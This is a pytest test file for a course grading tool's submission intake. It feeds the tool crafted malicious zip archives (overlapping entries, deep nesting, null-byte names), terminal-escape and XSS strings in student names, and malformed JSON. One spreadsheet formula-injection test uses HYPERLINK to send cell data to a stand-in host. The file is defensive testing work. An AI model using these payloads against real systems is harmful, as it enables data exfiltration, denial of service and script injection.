"""Files, names and times that are made to stop a run, to slow it down or to speak for us."""

import io
import json
import os
import struct
import time
import zipfile
from hashlib import sha256

import pytest

from course.cli import main
from course.errors import CourseError
from course.grade.intake.cells import cells_of
from course.grade.intake.collect import keep
from course.grade.intake.download import from_downloads
from course.grade.intake.fetch import from_exchange
from course.grade.intake.finds import MOST_ALIKE, Finds
from course.grade.intake.receipts import SCHEMA
from course.grade.intake.renamed import plain_name
from course.grade.intake.submission import take_one, wanted_files
from course.grade.marking.notebooks import NotebookGrader
from course.grade.marking.suite import load_suite
from course.grade.report.point_tables import spelled
from course.grade.roster import Person, Roster
from course.grade.sandbox.reply import Lie, ProbeReplies, message_of, read_message
from course.grade.show import show_collected
from course.grade.show_people import show_people
from course.source.notebooks import release_version

SCALAR = "src/minigrad/scalar.py"
TEXT = "class Value: pass\n"


@pytest.fixture
def phase(course):
    return course.phase("04")


def zipped(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def seconds_of(work):
    start = time.process_time()
    work()
    return time.process_time() - start


def test_a_member_without_a_name_does_not_end_the_run(course, phase, tmp_path):
    """Some versions of Python fail on it when they ask whether it is a folder."""
    crafted = bytearray(zipped({SCALAR: TEXT, "x": "y"}))
    crafted[crafted.rindex(b"x", 0, crafted.rindex(b"PK\5\6"))] = 0  # ends a name
    (tmp_path / "ann.zip").write_bytes(crafted)
    ((arrived,), remarks) = from_downloads(phase, [tmp_path / "ann.zip"])
    assert (arrived.sender.name, remarks) == ("ann", [])
    assert take_one(tmp_path / "ann.zip", wanted_files(course, phase)).files[SCALAR] == TEXT


@pytest.mark.parametrize("seconds", [1e15, -1e12, 4e10])
def test_a_time_that_no_calendar_has_does_not_end_the_run(phase, tmp_path, monkeypatch, seconds):
    """Some file systems keep any number; here they are played, since others cut it."""
    (tmp_path / "ann.zip").write_bytes(zipped({SCALAR: TEXT}))
    stat = os.stat
    odd = stat(tmp_path / "ann.zip")
    values = list(odd)
    values[8] = int(seconds)
    state = os.stat_result(values, {"st_mtime": seconds})
    monkeypatch.setattr("course.grade.intake.opened.files_beneath", lambda *_: [("ann.zip", state)])
    ((arrived,), _) = from_downloads(phase, [tmp_path])
    assert arrived.sender.name == "ann" and 1970 <= arrived.when.year <= 2096


@pytest.mark.parametrize("made", ["0001-01-01T00:00:00+23:59", "0001-01-02T00:00:00-10:00"])
def test_a_receipt_from_antiquity_counts_nothing(phase, tmp_path, made):
    data, folder = zipped({SCALAR: TEXT}), tmp_path / "in"
    folder.mkdir()
    (folder / "ann.zip").write_bytes(data)
    said = {"schema": SCHEMA, "zip": sha256(data).hexdigest(), "files": {}, "made": made}
    (folder / "ann.receipt.json").write_text(json.dumps(said))
    (attempt,) = keep(phase, [folder], tmp_path / "out")
    assert attempt.student == "ann" and attempt.when > "2020" and attempt.trusted != "receipt"


@pytest.mark.parametrize("stem", ["scalar" + " " * 65_000 + "x", "scalar" + " (1)" * 16_000])
def test_a_long_name_is_read_at_once(stem):
    """A zip may give a member a name of 65,535 bytes."""
    assert seconds_of(lambda: plain_name(f"{stem}.py")) < 0.5


def members(count, size, read):
    """Copies of one file under the names that browsers give, no two alike."""

    def reader(number):
        def data(limit):
            read.append(size)
            return number.to_bytes(4, "big") + bytes(size - 4)

        return data

    return [(f"scalar ({number}).py", reader(number)) for number in range(count)]


@pytest.mark.parametrize("beside", [False, True], ids=["alone", "beside the right one"])
@pytest.mark.parametrize("count", [MOST_ALIKE, 900])
def test_many_large_copies_are_not_all_read_and_told_of(course, phase, beside, count):
    """A zip of 32 MiB holds 4,000 files of 8 MiB of zeros each."""
    read, right = [], [(SCALAR, lambda limit: b"x")] if beside else []
    finds = Finds([*right, *members(count, 4096, read)], wanted_files(course, phase))
    flags = finds.flags()
    assert len(read) <= 2 * MOST_ALIKE
    assert 1 <= len(flags) <= MOST_ALIKE and all(len(flag) < 500 for flag in flags)
    assert (SCALAR in finds.best) == beside
    assert any("scalar (0).py" in flag for flag in flags)


def test_large_copies_are_not_all_held_at_a_time(course, phase):
    """Each is gone before the next is read."""
    alive = []

    class Counted(bytes):
        def __new__(cls, *arguments: int):
            alive.append(1)
            return super().__new__(cls, *arguments)

        def __del__(self):
            alive.pop()

    most = []

    def read(limit):
        data = Counted(len(most))  # no two alike
        most.append(len(alive))
        return data

    Finds([(f"scalar ({i}).py", read) for i in range(10)], wanted_files(course, phase))
    assert len(most) == 10 and max(most) <= 2


def test_many_small_files_and_deep_zips_are_taken_in_quickly(course, phase, tmp_path):
    """13,000 members fill the table of contents; zips in zips end after a few."""
    many = zipped({f"{i:x}.py": "" for i in range(13_000)})
    deep = zipped({SCALAR: TEXT})
    for _ in range(30):
        deep = zipped({"04.zip": deep})
    for name, data in (("many", many), ("deep", deep)):
        (tmp_path / f"{name}.zip").write_bytes(data)
        start = time.process_time()
        taken = take_one(tmp_path / f"{name}.zip", wanted_files(course, phase))
        assert time.process_time() - start < 10
        assert taken.files == {} and 0 < len(taken.flags) < 40


def test_two_members_of_one_place_do_not_add_up(course, phase, tmp_path):
    """A table of contents whose entries all lead to the same bytes."""
    names = [SCALAR, *(f"{i}/{SCALAR}" for i in range(300))]
    data = zipped({SCALAR: "#" * 200_000})
    directory, end = data.index(b"PK\1\2"), data.rindex(b"PK\5\6")
    entry = data[directory:end]
    entries = b"".join(
        entry[:28] + struct.pack("<H", len(name)) + entry[30:46] + name.encode() for name in names
    )
    last = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, len(names), len(names), len(entries), directory, 0
    )
    (tmp_path / "ann.zip").write_bytes(data[:directory] + entries + last)
    start = time.process_time()
    taken = take_one(tmp_path / "ann.zip", wanted_files(course, phase))
    assert time.process_time() - start < 5 and len(taken.flags) < 10
    assert set(taken.files) <= {SCALAR}


HOSTILE = "\x1b]0;mine\x07\x1b[2J\u202e<img src=x onerror=alert(1)>"


@pytest.mark.parametrize("end", ["never", "2026-11-29 10:00:00 UTC"])
def test_a_name_in_the_exchange_speaks_to_no_terminal(course, phase, tmp_path, end):
    """Students make the folders of nbgrader's inbound themselves."""
    inbound = tmp_path / course.delivery.course_id / "inbound"
    inbound.mkdir(parents=True)
    (inbound / f"{HOSTILE.replace('/', '')}+{phase.slug}+{end}").mkdir()
    _, remarks = from_exchange(course, phase, tmp_path)
    assert remarks and all(line.isprintable() for line in remarks), remarks


def test_nor_does_a_name_that_a_platform_gives(phase, tmp_path, capsys, monkeypatch):
    """People choose what Canvas and Moodle call them."""
    for number in (31, 32):
        folder = tmp_path / f"{HOSTILE.replace('/', '')}_{number}_assignsubmission_file_"
        folder.mkdir()
        (folder / "04.zip").write_bytes(zipped({SCALAR: TEXT}))
    remarks = []
    attempts = keep(phase, [tmp_path], tmp_path / "out", remarks=remarks)
    assert any("2 people are called" in line for line in remarks)
    show_collected(phase, attempts, attempts, None, remarks, tmp_path / "out")
    ann = Person("ann", HOSTILE, withdrawn=True)
    show_people(phase, Roster((ann,)), {})
    monkeypatch.setattr("course.cli._nothing_asked", lambda: fail(f"{HOSTILE} is two people"))
    assert main([]) == 2
    told = "".join(capsys.readouterr()).splitlines()
    assert len([line for line in told if "<img src=x" in line]) == 3
    assert all(line.isprintable() for line in told), told


def fail(why):
    raise CourseError(why)


@pytest.mark.parametrize("sign", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
def test_no_name_is_a_formula(sign):
    """OWASP's list, with the full-width signs of East Asian spreadsheets."""
    name = f'{sign}HYPERLINK("http://mine/?"&A1,"my grade")'
    assert spelled(name) == f"'{name}"


def test_a_grading_cell_in_five_hundred_copies_is_told_of_once(course, phase):
    suite = load_suite(course, phase)
    grader = NotebookGrader(suite, None)
    document = json.loads(release_version(course, phase))
    check = [c for c in document["cells"] if "order-check" in json.dumps(c["metadata"])]
    document["cells"] = [*document["cells"], *check * 400]
    cells, flags = grader.cells_to_run(cells_of(json.dumps(document).encode())[0])
    assert flags == ["the grading cell order-check is there twice; the first counts"]
    assert [cell.id for cell in cells if cell.id] == ["order-check"]


@pytest.mark.parametrize(
    "change", [{"ending": "done"}, {"seen": [["y", 3.5]]}, {"ending": "unfinished"}]
)
def test_no_message_about_a_file_answers_for_its_probes(change):
    """It stands for every probe that is left: it may say that the import failed, and no more."""
    message = {"probe": "tests/hidden/x.py.*", "ending": "error", "detail": "", "seconds": 0.0}
    message["seen"] = []
    replies = ProbeReplies()
    read_message(message, {"04.a"}, replies)
    assert list(replies.broken_files) == ["tests/hidden/x.py"]
    with pytest.raises(Lie):
        read_message(message | change, {"04.a"}, replies)


@pytest.mark.parametrize(
    "text",
    [
        b'{"start": "04.a", "start": "04.b"}',
        b'{"start": ["04.a"]}',
        b'{"start": "04.\\u0061 "}',
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b'{"probe": "04.a", "ending": "done", "detail": "", "seconds": 0, "seen": [["x", 1e999]]}',
        b'{"probe": "04.a", "ending": "done", "detail": "", "seconds": 0, "seen": [["x", null]]}',
        b'{"probe": "04.a", "ending": ["done"], "detail": "", "seconds": 0, "seen": []}',
        b'{"probe": {"a": 1}, "ending": "done", "detail": "", "seconds": 0, "seen": []}',
        b'{"probe": "04.a", "ending": "done", "detail": "", "seconds": "1e9", "seen": {"x": 1}}',
        b"\xed\xa0\x80",
    ],
)
def test_no_odd_message_passes_or_raises_anything_else(text):
    replies = ProbeReplies()
    with pytest.raises(Lie):
        read_message(message_of(b'{"start": "04.a"}'), {"04.a"}, replies)
        read_message(message_of(text), {"04.a"}, replies)
    assert replies.recordings == {}
